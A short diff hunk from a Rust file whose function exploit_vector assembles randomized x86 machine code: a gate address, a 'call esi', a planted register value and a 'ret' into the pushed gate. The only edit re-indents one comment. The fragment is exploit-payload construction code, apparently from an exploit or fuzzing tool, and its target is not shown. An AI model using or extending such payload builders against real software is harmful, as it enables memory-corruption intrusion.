@@ -25,7 +25,7 @@ pub fn exploit_vector<G: Rng>(rng: &mut G) -> Vec<u8> {
     a.push_imm32(CRII_GATE);
     a.mov_imm(R::Esi, CRII_GATE + rng.gen_range(0..0x100));
     a.raw(&[0xff, 0xd6]); // call esi
-    // the body then stages its heap fixups via the same window
+                          // the body then stages its heap fixups via the same window
     a.mov_imm(R::Ebx, 0x0040_0000 + rng.gen_range(0..0x1000));
     a.push_imm32(CRII_GATE - rng.gen_range(0..0x80));
     a.raw(&[0xc3]); // ret into the pushed gate
